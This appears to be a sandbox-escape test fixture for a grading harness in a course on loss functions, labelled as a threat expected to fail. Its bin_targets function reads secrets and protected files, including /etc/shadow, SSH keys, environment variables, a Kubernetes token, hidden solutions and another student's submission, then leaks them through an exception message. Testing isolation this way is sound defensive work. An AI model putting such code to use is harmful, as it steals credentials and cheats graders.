// threat: opens its own /proc entries, the checker's, the course, tokens, keys, others' submissions
// expect: failed
// says: opened nothing
// twin: failed

#include <fstream>
#include <iterator>

#include "losses.hpp"

namespace descent {

arma::uvec bin_targets(const arma::vec& targets, const arma::vec& edges) {
  // trick
  std::string stolen;
  for (const char* file :
       {"/proc/self/exe", "/proc/self/maps", "/proc/self/environ", "/proc/self/cmdline",
        "/proc/self/fd/0", "/proc/1/environ", "@SECRET@", "@ROOT@/.git/config", "@ROOT@/.git/HEAD",
        "@ROOT@/solutions/07-losses/losses.cpp", "@ROOT@/harness/suites/07-losses/hand.hpp",
        "@BUILD@/stages/07-losses.hidden", "@BUILD@/stages/07-losses.solutions.so",
        "@CLASS@/bob/losses.cpp", "/etc/passwd", "/etc/shadow", "/root/.netrc", "/root/.ssh/id_rsa",
        "/var/run/secrets/kubernetes.io/serviceaccount/token"}) {
    std::ifstream in(file);
    stolen += std::string(std::istreambuf_iterator<char>(in), {});
  }
  throw std::runtime_error(stolen.empty() ? "opened nothing" : stolen);
  // end of the trick
  return {};
}

}  // namespace descent
